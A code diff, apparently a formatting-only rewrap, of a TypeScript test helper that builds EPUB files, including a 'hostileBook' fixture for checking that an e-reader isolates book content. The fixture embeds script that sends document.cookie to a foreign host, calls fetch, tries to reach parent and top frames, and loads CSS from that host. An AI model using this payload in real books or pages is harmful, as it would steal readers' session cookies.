@@ -30,10 +30,13 @@ const page = ({ title, content, head = '' }: MadeChapter): string =>
 export async function madeBook(book: MadeBook): Promise<Buffer> {
   const { title, author = 'Aoi Mori', chapters, hasContents = true, more = {}, left = [], direction } = book;
   const items = chapters.map(
-    ({ file, type = 'application/xhtml+xml' }, nth) => `<item id="c${nth}" href="${file}" media-type="${type}"/>`,
+    ({ file, type = 'application/xhtml+xml' }, nth) =>
+      `<item id="c${nth}" href="${file}" media-type="${type}"/>`,
   );
   const others = Object.entries(more).flatMap(([name, { type }], nth) =>
-    type === undefined ? [] : [`<item id="m${nth}" href="${name.replace('OEBPS/', '')}" media-type="${type}"/>`],
+    type === undefined
+      ? []
+      : [`<item id="m${nth}" href="${name.replace('OEBPS/', '')}" media-type="${type}"/>`],
   );
   const nav = hasContents
     ? '<item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>'
@@ -63,7 +66,11 @@ export async function madeBook(book: MadeBook): Promise<Buffer> {
 }
 
 const sentences = (about: string, count: number): string =>
-  Array.from({ length: count }, (_, nth) => `<p>${about}, sentence ${nth + 1}: the lake had frozen in the night, not all of it, only the bay below the houses.</p>`).join('');
+  Array.from(
+    { length: count },
+    (_, nth) =>
+      `<p>${about}, sentence ${nth + 1}: the lake had frozen in the night, not all of it, only the bay below the houses.</p>`,
+  ).join('');
 
 /** A novel of so many chapters, of a few pages each. */
 export const novel = (count = 5): Promise<Buffer> =>
@@ -84,7 +91,8 @@ export function hostileBook(foreign: string): Promise<Buffer> {
   const at = (way: string): string => `${foreign}/stored/${way}`;
   const run = (way: string): string =>
     `try{parent.postMessage('x','*');top.document.title='owned'}catch(e){}new Image().src='${at(way)}?'+document.cookie;fetch('${at(`${way}-fetch`)}')`;
-  const xml = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
+  const xml = (text: string): string =>
+    text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
   const quiet = '<p>Quiet words</p>';
   const chapters: MadeChapter[] = [
     {
@@ -141,7 +149,10 @@ export function hostileBook(foreign: string): Promise<Buffer> {
     chapters,
     more: {
       'OEBPS/own.js': { text: run('own-script'), type: 'text/javascript' },
-      'OEBPS/own.css': { text: `@import "${at('nested-import.css')}"; p { background: url(${at('own-css.png')}) }`, type: 'text/css' },
+      'OEBPS/own.css': {
+        text: `@import "${at('nested-import.css')}"; p { background: url(${at('own-css.png')}) }`,
+        type: 'text/css',
+      },
       'OEBPS/inner.xhtml': {
         text: `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${xml(run('inner'))}</script></body></html>`,
         type: 'application/xhtml+xml',
